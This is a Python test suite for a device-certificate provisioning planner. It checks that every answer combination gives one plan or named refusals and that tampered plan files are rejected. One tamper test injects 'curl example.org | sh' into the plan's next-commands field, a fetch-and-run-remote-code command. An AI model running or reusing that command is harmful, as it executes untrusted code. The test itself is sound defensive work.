"""Every combination of answers ends in exactly one plan or in named refusals; a plan file cannot be bent."""

from __future__ import annotations

import tomllib
from collections.abc import Callable
from datetime import date
from pathlib import Path

import msgspec
import pytest
from guidecases import CHOICES, answer, every_answer
from hypothesis import given
from hypothesis import strategies as st

from birthmark.errors import Misconfigured, Refused
from birthmark.guide.answers import Answers, Facts
from birthmark.guide.plan import Plan, decide, parse_plan, render_plan
from birthmark.guide.rule import SEVERITY

EXAMPLES = Path(__file__).parents[3] / "docs" / "examples"

# Facts with which nothing but the decisions themselves can be refused.
GOOD = Facts(update_path="yes", end_of_status_plan="yes", regulated="no", issuing_ca_days=0, root_ca_days=0)


@pytest.mark.parametrize("facts", [Facts(), GOOD, Facts(regulated="yes", update_path="no", ca_key="file")])
def test_every_combination_has_one_plan_or_named_refusals(facts: Facts) -> None:
    seen = 0
    for answers in every_answer(facts):
        outcome = decide(answers)
        assert (outcome.plan is None) == bool(outcome.refusals), answers
        ranks = [SEVERITY[finding.verdict] for finding in outcome.findings]
        assert ranks == sorted(ranks)
        seen += 1
    assert seen == 18_432


def test_the_same_answers_get_the_same_outcome() -> None:
    for answers in every_answer():
        again = msgspec.convert(msgspec.to_builtins(answers), Answers)
        assert decide(answers) == decide(again)


def laws(plan: Plan) -> list[tuple[str, bool]]:
    """What no plan may break, said without the rules."""
    said = plan.answers
    offline = said.connectivity != "online"
    sensitive_site = plan.sensitive and plan.source == "factory_ca"
    return [
        ("a pool key is never born in the device", plan.source != "pool" or plan.key_origin == "injected"),
        ("a key in hardware is born inside", said.storage not in ("hsm", "tee") or plan.key_origin == "device"),
        ("an offline station asks nobody", not offline or plan.source != "online"),
        ("only a chip is preloaded", plan.source != "vendor" or said.storage == "hsm"),
        ("no image for an unborn key", plan.when_to_install != "firmware_image" or plan.key_origin == "injected"),
        ("no expiry needs a chip", plan.validity_days != 0 or said.storage == "hsm"),
        ("what is rolled ends", said.validity != "rolled" or plan.validity_days > 0),
        ("the root covers the issuing CA", plan.root_ca_days == 0 or 0 < plan.issuing_ca_days <= plan.root_ca_days),
        ("no CA key of a foreign CA", (plan.ca_key == "none") == (plan.ca_owner != "maker")),
        (
            "no site CA in a file if sensitive",
            not sensitive_site or plan.ca_key != "file",
        ),
        ("a cloud's PKI serves that cloud", said.root != "cloud_run" or "aws_iot" not in plan.clouds),
        ("asked is done: generate", said.when_to_generate in ("derive", plan.when_to_generate)),
        ("asked is done: install", said.when_to_install in ("derive", plan.when_to_install)),
        ("there is a next command", bool(plan.next_commands)),
    ]


@pytest.mark.parametrize("facts", [Facts(), GOOD])
def test_no_plan_breaks_a_law(facts: Facts) -> None:
    for answers in every_answer(facts):
        plan = decide(answers).plan
        if plan is not None:
            assert [name for name, kept in laws(plan) if not kept] == [], answers


def test_no_choice_is_refused_whatever_else_is_answered() -> None:
    possible: dict[str, set[str]] = {name: set() for name in CHOICES}
    for answers in every_answer(GOOD):
        if decide(answers).plan is not None:
            for name in CHOICES:
                possible[name].add(getattr(answers, name))
    assert possible == {name: set(choices) for name, choices in CHOICES.items()}


@pytest.mark.parametrize(
    ("changed", "when_to_generate", "source", "when_to_install"),
    [
        ({}, "on_demand_online", "online", "line_tool"),
        ({"connectivity": "offline_factory_ca"}, "on_demand_offline", "factory_ca", "line_tool"),
        ({"connectivity": "offline_prepared"}, "ahead_of_time", "pool", "line_tool"),
        ({"storage": "hsm"}, "in_device", "online", "line_tool"),
        ({"storage": "hsm", "connectivity": "offline_factory_ca"}, "in_device", "factory_ca", "line_tool"),
        ({"storage": "hsm", "connectivity": "offline_prepared"}, "in_device", "csr_travel", "line_tool"),
        ({"storage": "hsm", "when_to_install": "preloaded"}, "preloaded", "vendor", "preloaded"),
        ({"root": "third_party_service", "connectivity": "offline_prepared"}, "ahead_of_time", "pool", "line_tool"),
        ({"root": "third_party_service", "third_party_rate_per_day": 900}, "ahead_of_time", "pool", "line_tool"),
        ({"root": "cloud_run", "connectivity": "offline_prepared"}, "by_cloud", "cloud", "by_cloud"),
    ],
)
def test_when_to_generate_and_install_follow_from_the_situation(
    changed: dict[str, str], when_to_generate: str, source: str, when_to_install: str
) -> None:
    plan = decide(answer(update_path="yes", **changed)).plan
    assert plan is not None
    assert (plan.when_to_generate, plan.source, plan.when_to_install) == (when_to_generate, source, when_to_install)


def test_plan_survives_the_file_for_every_combination() -> None:
    for number, answers in enumerate(every_answer(GOOD)):
        plan = decide(answers).plan
        if plan is not None and number % 7 == 0:
            assert parse_plan(render_plan(plan).encode()) == plan


@given(
    name=st.from_regex(r"\A[a-z0-9]{1,20}\Z"),
    lead=st.integers(1, 3_650),
    start=st.one_of(st.none(), st.dates(date(1, 1, 1), date(9999, 12, 31))),
    clouds=st.lists(st.sampled_from(["azure_dps_groups", "aws_iot", "export"]), max_size=3),
)
def test_plan_with_any_facts_survives_the_file(name: str, lead: int, start: date | None, clouds: list[str]) -> None:
    plan = decide(
        answer(device_name_example=name, lead_days=lead, first_request_on=start, more_clouds=tuple(clouds))
    ).plan
    assert plan is not None
    text = render_plan(plan)
    assert parse_plan(text.encode()) == plan
    assert tomllib.loads(text)["format"] == "birthmark-plan/1"


def text_of_a_plan() -> str:
    plan = decide(answer(audit="sensitive", connectivity="offline_factory_ca")).plan
    assert plan is not None
    return render_plan(plan)


@pytest.mark.parametrize(
    ("bend", "key"),
    [
        (lambda text: text.replace('ca_key = "pkcs11"', 'ca_key = "file"', 1), "ca_key"),
        (lambda text: text.replace("sensitive = true", "sensitive = false"), "sensitive"),
        (lambda text: text.replace("sensitive = true", "sensitive = 1"), "sensitive"),
        (lambda text: text.replace("validity_days = 730", "validity_days = 0"), "validity_days"),
        (lambda text: text.replace("validity_days = 730\n", ""), "validity_days"),
        (lambda text: text.replace('"birthmark init', '"curl example.org | sh; birthmark init'), "next_commands"),
        (lambda text: 'extra = "key"\n' + text, "extra"),
        (lambda text: text.replace('warnings = ["', 'warnings = ["G-NO-01", "'), "warnings"),
    ],
)
def test_plan_bent_by_hand_is_refused_and_the_key_is_named(bend: Callable[[str], str], key: str) -> None:
    bent = bend(text_of_a_plan())
    assert bent != text_of_a_plan()
    with pytest.raises(Misconfigured) as caught:
        parse_plan(bent.encode())
    assert caught.value.code == "guide.plan.altered"
    assert caught.value.facts["keys"] == [key]


def test_plan_whose_answers_were_changed_into_refused_ones_is_refused() -> None:
    bent = text_of_a_plan().replace('update_path = "unknown"', 'update_path = "no"')
    with pytest.raises(Refused) as caught:
        parse_plan(bent.encode())
    assert (caught.value.code, caught.value.facts["rules"]) == ("guide.plan.refused", ["G-VAL-06"])


@pytest.mark.parametrize(
    ("bent", "code"),
    [
        (b"", "guide.plan.format"),
        (b'format = "birthmark-plan/2"\n[answers]\n', "guide.plan.format"),
        (b'format = "birthmark-plan/1"\n', "guide.plan.format"),
        (b'format = "birthmark-plan/1"\nanswers = 3\n', "guide.plan.format"),
        (b'format = "birthmark-plan/1"\n[answers]\nroot = "self_managed"\n', "guide.answers.key.missing"),
        (b"\x00\xff", "guide.answers.toml"),
    ],
)
def test_file_that_is_no_plan_is_refused(bent: bytes, code: str) -> None:
    with pytest.raises(Misconfigured) as caught:
        parse_plan(bent)
    assert caught.value.code == code


@given(st.binary(max_size=200))
def test_no_octets_end_in_anything_but_an_error_of_ours(octets: bytes) -> None:
    with pytest.raises(Misconfigured):
        parse_plan(octets)
